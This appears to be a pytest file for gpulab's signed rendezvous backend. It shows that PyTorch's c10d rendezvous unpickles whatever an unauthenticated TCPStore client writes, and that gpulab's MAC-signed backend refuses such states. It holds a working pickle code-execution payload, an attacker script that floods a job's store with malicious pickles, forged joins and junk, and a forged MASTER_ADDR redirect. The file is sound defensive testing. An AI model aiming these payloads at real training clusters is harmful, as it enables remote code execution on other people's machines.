"""The rendezvous store of a job takes any TCP client: a pickle written there must
never run (issue 24, the first Critical finding).

torch's c10d rendezvous calls ``pickle.loads`` on ``torch.rendezvous.<run id>`` at
every heartbeat; gpulab's (``--rdzv-backend=gpulab``,
:mod:`gpulab.training.rendezvous`) unpickles only what carries the MAC of the
job's secret. The unit tests drive the real rendezvous handlers against a real
TCPStore; the last test runs a real 2-node job in two network namespaces while
an attacker in a third namespace, as another account, writes a pickle into its
store, joins, and writes junk.
"""

from __future__ import annotations

import base64
import contextlib
import datetime
import glob
import os
import pickle
import random
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from support.netns_run import start_in_namespace
from support.wait import wait_until
from torch.distributed import PrefixStore, TCPStore
from torch.distributed.elastic.rendezvous import (
    RendezvousError,
    RendezvousParameters,
    rendezvous_handler_registry,
)

from gpulab.backend.local import PASS_ENV, LocalBackend
from gpulab.backend.render import render_node
from gpulab.training import env as rank_env
from gpulab.training import rendezvous

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "backend"))
from cells import LINEAR  # noqa: E402
from localrun import new_spec, prepare  # noqa: E402

SECRET = "ab" * 32
RUN_ID = "job0001"
KEY = f"torch.rendezvous.{RUN_ID}"


class Payload:
    """What an attacker pickles: loading it makes the directory ``path``."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def forged(marker) -> str:
    """A pickle of the attack, as torch's c10d backend stores a state (base64)."""
    return base64.b64encode(pickle.dumps(Payload(str(marker)))).decode()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def store():
    """The job's rendezvous store, as node 0's agent hosts it; and its port."""
    port = free_port()
    server = TCPStore("127.0.0.1", port, is_master=True, timeout=datetime.timedelta(seconds=10))
    yield server, port


@pytest.fixture
def secret_env(monkeypatch):
    monkeypatch.setenv(rank_env.RDZV_SECRET, SECRET)
    monkeypatch.delenv(rank_env.RDZV_SECRET_FILE, raising=False)


def handler(backend: str, port: int):
    """A real node agent's rendezvous handler (not the store's host) of ``backend``."""
    rendezvous.register()
    params = RendezvousParameters(
        backend=backend,
        endpoint=f"127.0.0.1:{port}",
        run_id=RUN_ID,
        min_nodes=1,
        max_nodes=2,
        is_host="0",
    )
    return rendezvous_handler_registry.create_handler(params)


def test_torchs_c10d_rendezvous_runs_a_pickle_from_its_store(store, tmp_path):
    """The attack, against what gpulab ran before: torch's own c10d backend."""
    server, port = store
    marker = tmp_path / "ran"
    agent = handler("c10d", port)
    server.set(KEY, forged(marker))
    # What the agent's monitor loop calls every interval. The payload returns None,
    # which torch then fails on: it ran all the same.
    with contextlib.suppress(Exception):
        agent.num_nodes_waiting()
    assert marker.exists()


def test_gpulab_rendezvous_never_unpickles_a_forged_state(store, tmp_path, secret_env, caplog):
    server, port = store
    agent = handler("gpulab", port)
    unsigned = tmp_path / "unsigned"
    server.set(KEY, forged(unsigned))
    assert agent.num_nodes_waiting() == 0
    # Signed, but with another secret (another job's, a guess).
    other = tmp_path / "other-secret"
    sealed = rendezvous.seal(b"cd" * 32, KEY, pickle.dumps(Payload(str(other))))
    server.set(KEY, base64.b64encode(sealed).decode())
    assert agent.num_nodes_waiting() == 0
    # Signed with this job's secret for another job's key: moved from elsewhere.
    moved = tmp_path / "moved"
    sealed = rendezvous.seal(
        SECRET.encode(), "torch.rendezvous.other", pickle.dumps(Payload(str(moved)))
    )
    server.set(KEY, base64.b64encode(sealed).decode())
    assert agent.num_nodes_waiting() == 0
    server.set(KEY, "not base64 at all \x00\xff")
    assert agent.num_nodes_waiting() == 0
    assert not unsigned.exists() and not other.exists() and not moved.exists()
    assert "not signed with this job's secret" in caplog.text


def test_a_state_signed_with_the_jobs_secret_is_read(store, tmp_path):
    server, port = store
    writer = rendezvous.SignedC10dBackend(server, RUN_ID, SECRET.encode())
    client = TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=10))
    reader = rendezvous.SignedC10dBackend(client, RUN_ID, SECRET.encode())
    assert reader.get_state() is None
    state, token, written = writer.set_state(b"the state")
    assert (state, written) == (b"the state", True)
    assert reader.get_state() == (b"the state", token)
    # The reader writes over what it read (the compare_set token), as torch's backend.
    assert reader.set_state(b"next", token)[::2] == (b"next", True)
    assert writer.get_state()[0] == b"next"


def test_junk_is_ignored_and_the_next_honest_write_replaces_it(store, tmp_path):
    server, _ = store
    agent = rendezvous.SignedC10dBackend(server, RUN_ID, SECRET.encode())
    # Junk before any state: no state, and the agent's first write goes over the junk.
    server.set(KEY, forged(tmp_path / "a"))
    assert agent.get_state() is None
    assert agent.set_state(b"first")[::2] == (b"first", True)
    # Junk after a state: the last state that verified stands, and is written back.
    server.set(KEY, forged(tmp_path / "b"))
    state, token, _ = agent.set_state(b"second", agent.get_state()[1])
    assert state == b"second"
    assert rendezvous.unseal(SECRET.encode(), KEY, base64.b64decode(server.get(KEY))) == b"second"


def test_a_forged_master_addr_stops_the_agent_instead_of_redirecting_its_workers(store):
    """The agents' other keys: where the workers connect (``MASTER_ADDR``), their ranks."""
    server, port = store
    agents = rendezvous.SignedStore(server, SECRET.encode())
    prefixed = PrefixStore(f"{KEY}.0", agents)  # as the rendezvous hands it to the agent
    prefixed.set("MASTER_ADDR", "10.0.0.1")
    prefixed.multi_set(["role0", "role1"], ["a", "b"])
    assert prefixed.get("MASTER_ADDR") == b"10.0.0.1"
    assert prefixed.multi_get(["role0", "role1"]) == [b"a", b"b"]
    assert prefixed.add("count", 1) == 1 and prefixed.check(["count"])
    # The attacker's own store address, written over the agents'.
    server.set(f"{KEY}.0/MASTER_ADDR", "10.66.66.66")
    with pytest.raises(RendezvousError, match="not signed with this job's secret"):
        prefixed.get("MASTER_ADDR")
    # A signed value moved to another key does not verify there either.
    server.set(f"{KEY}.0/role0", server.get(f"{KEY}.0/role1"))
    with pytest.raises(RendezvousError, match="tampering"):
        prefixed.multi_get(["role0"])


def test_the_secret_is_read_only_from_a_file_of_the_owner(tmp_path):
    path = tmp_path / "rdzv.secret"
    path.write_text(SECRET + "\n")
    path.chmod(0o600)
    assert rendezvous.load_secret({rank_env.RDZV_SECRET_FILE: str(path)}) == SECRET.encode()
    path.chmod(0o644)
    with pytest.raises(RendezvousError, match="readable by every user: chmod o-r"):
        rendezvous.load_secret({rank_env.RDZV_SECRET_FILE: str(path)})
    with pytest.raises(RendezvousError, match="no rendezvous secret"):
        rendezvous.load_secret({})
    with pytest.raises(RendezvousError, match="resubmit the job"):
        rendezvous.load_secret({rank_env.RDZV_SECRET_FILE: str(tmp_path / "none")})
    with pytest.raises(RendezvousError, match="at least 32"):
        rendezvous.load_secret({rank_env.RDZV_SECRET: "short"})


def test_the_hosting_agent_listens_only_on_the_endpoints_address(secret_env):
    port = free_port()
    params = RendezvousParameters(
        backend="gpulab",
        endpoint=f"127.0.0.1:{port}",
        run_id=RUN_ID,
        min_nodes=1,
        max_nodes=1,
        is_host="1",
    )
    store = rendezvous.create_store(params)
    store.set("k", "v")
    with open("/proc/net/tcp") as f:
        listening = [line.split()[1] for line in f.readlines()[1:] if line.split()[3] == "0A"]
    assert f"0100007F:{port:04X}" in listening  # 127.0.0.1
    assert f"00000000:{port:04X}" not in listening  # not 0.0.0.0


# -- a real 2-node job, attacked from a third network namespace as another account --
ATTACKER = r"""
import base64, datetime, os, pickle, sys, time
from torch.distributed import TCPStore
from torch.distributed.elastic.rendezvous.dynamic_rendezvous import _NodeDesc, _RendezvousState

host, port, run_id, marker = sys.argv[1:5]
key = "torch.rendezvous." + run_id


class Payload:
    def __reduce__(self):
        return (os.mkdir, (marker,))


evil = base64.b64encode(pickle.dumps(Payload())).decode()
# Joining as a node: a well-formed state with the attacker waiting to join (torch's
# agents restart their workers for a waiting node).
me = _NodeDesc("10.66.66.66", 4242, 0)
join = _RendezvousState()
join.wait_list.add(me)
join.last_heartbeats[me] = datetime.datetime.now(datetime.timezone.utc)
join = base64.b64encode(pickle.dumps(join)).decode()
while True:
    try:
        store = TCPStore(host, int(port), is_master=False, wait_for_workers=False,
                         timeout=datetime.timedelta(seconds=5))
        break
    except Exception as e:
        print("connect failed:", e, flush=True)
print("connected as uid", os.getuid(), flush=True)
rounds = 0
while True:
    state = store.get(key)  # reading is open to anyone
    store.set(key, evil)
    store.compare_set(key, evil, join)
    store.set(key, "junk, not even base64 !!")
    store.compare_set(key, "junk, not even base64 !!", evil)
    rounds += 1
    print(f"round {rounds}: read {len(state)} bytes", flush=True)
    time.sleep(0.05)
"""


def ip(*args):
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=30)


@pytest.fixture
def three_namespaces():
    """Node 0 and node 1 of a job (one veth pair), and an attacker's namespace with a
    veth of its own to node 0's: it reaches node 0's addresses, as a machine on the
    same network would."""
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    tag = f"{os.getpid() % 1000:03d}{random.randint(0, 9)}"
    octet = random.randint(1, 250)
    ns = [f"gpl24n0{tag}", f"gpl24n1{tag}", f"gpl24a{tag}"]
    node0, node1 = f"10.236.{octet}.1", f"10.236.{octet}.2"
    try:
        for n in ns:
            ip("netns", "add", n)
            ip("-n", n, "link", "set", "lo", "up")
        ip("link", "add", f"gpl24v0{tag}", "type", "veth", "peer", "name", f"gpl24v1{tag}")
        ip("link", "add", f"gpl24w0{tag}", "type", "veth", "peer", "name", f"gpl24wa{tag}")
        for n, veth, addr in (
            (ns[0], f"gpl24v0{tag}", f"{node0}/30"),
            (ns[1], f"gpl24v1{tag}", f"{node1}/30"),
            (ns[0], f"gpl24w0{tag}", f"10.237.{octet}.1/30"),
            (ns[2], f"gpl24wa{tag}", f"10.237.{octet}.2/30"),
        ):
            ip("link", "set", veth, "netns", n)
            ip("-n", n, "addr", "add", addr, "dev", veth)
            ip("-n", n, "link", "set", veth, "up")
        ip("-n", ns[2], "route", "add", f"10.236.{octet}.0/30", "via", f"10.237.{octet}.1")
        yield {
            "nodes": [(ns[0], f"gpl24v0{tag}", node0), (ns[1], f"gpl24v1{tag}", node1)],
            "attacker": ns[2],
        }
    finally:
        for n in ns:
            subprocess.run(["ip", "netns", "del", n], capture_output=True, timeout=30)


def listening(netns: str, port: int) -> list[str]:
    out = subprocess.run(
        ["ip", "netns", "exec", netns, "ss", "-Hltn", f"sport = :{port}"],
        capture_output=True,
        text=True,
        timeout=30,
    ).stdout
    return [line.split()[3] for line in out.splitlines() if line.strip()]


@pytest.mark.netns
@pytest.mark.slow
def test_a_running_2_node_job_survives_a_pickle_a_join_and_junk_from_outside(
    tmp_path, three_namespaces
):
    backend = LocalBackend(str(tmp_path / "jobs"))
    gate = tmp_path / "go"
    spec = new_spec(LINEAR, nodes=2, nproc_per_node=1, env={"STEPS": "12", "GATE": str(gate)})
    jd = prepare(backend, spec)  # writes the job's rendezvous secret, 0600
    assert stat.S_IMODE(os.stat(jd.p("rdzv.secret")).st_mode) == 0o600
    nodes = three_namespaces["nodes"]
    host, port = nodes[0][2], free_port()
    base = {k: os.environ[k] for k in PASS_ENV if k in os.environ}
    procs = []
    for node, (ns, veth, addr) in enumerate(nodes):
        launch = render_node(
            spec,
            node,
            job_dir=jd.path,
            rdzv_host=host,
            rdzv_port=port,
            local_addr=addr,
            ifname=veth,
        )
        secret = open(jd.p("rdzv.secret")).read().strip()
        assert not any(secret in a for a in launch.argv)  # never on a command line
        log = jd.p("logs", f"node{node}.log")
        procs.append(start_in_namespace(ns, launch.argv, {**base, **launch.env}, log))
    marker = tmp_path / "pwned"
    attack_log = tmp_path / "attacker.log"
    attacker = None

    def logs() -> str:
        text = "".join(
            f"--- {p.name}\n{p.read_text(errors='replace')[-3000:]}\n"
            for p in [*map(Path, glob.glob(jd.p("logs", "*.log"))), attack_log]
            if p.exists()
        )
        return text

    try:
        # The job runs (both ranks reported a step): the rendezvous is done.
        wait_until(
            lambda: all(
                os.path.exists(jd.p("metrics", f"rank{r}.jsonl"))
                and os.path.getsize(jd.p("metrics", f"rank{r}.jsonl"))
                for r in (0, 1)
            ),
            "both ranks training",
            detail=logs,
        )
        # Node 0's agent hosts the store on its own address only.
        assert listening(nodes[0][0], port) == [f"{host}:{port}"]
        with open(attack_log, "wb") as out:
            attacker = subprocess.Popen(
                [
                    "ip", "netns", "exec", three_namespaces["attacker"],
                    "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                    sys.executable, "-c", ATTACKER, host, str(port), spec.id, str(marker),
                ],
                stdout=out,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )  # fmt: skip
        # The attacker is in the store, and both agents read what it wrote there.
        wait_until(
            lambda: (
                "round 20:" in attack_log.read_text()
                and all(
                    "not signed with this job's secret" in open(jd.p("logs", f"node{n}.log")).read()
                    for n in (0, 1)
                )
            ),
            "the attack running and both agents refusing its states",
            detail=logs,
        )
        assert "connected as uid 65534" in attack_log.read_text()
    finally:
        if attacker is not None:
            os.killpg(attacker.pid, 9)
            attacker.wait()
        gate.touch()  # the job may finish now
        try:
            wait_until(
                lambda: all(p.poll() is not None for p in procs),
                "the job's nodes to end",
                detail=logs,
            )
        finally:
            for p in procs:
                if p.poll() is None:
                    os.killpg(p.pid, 9)
    assert not marker.exists(), "the attacker's pickle ran"
    assert [p.returncode for p in procs] == [0, 0], logs()
    # Untouched: no worker restarted (a node waiting to join would restart them).
    assert jd.restarts() == 0
    for r in (0, 1):
        assert f"rank {r}/2 done" in open(jd.p("logs", f"rank{r}.log")).read()
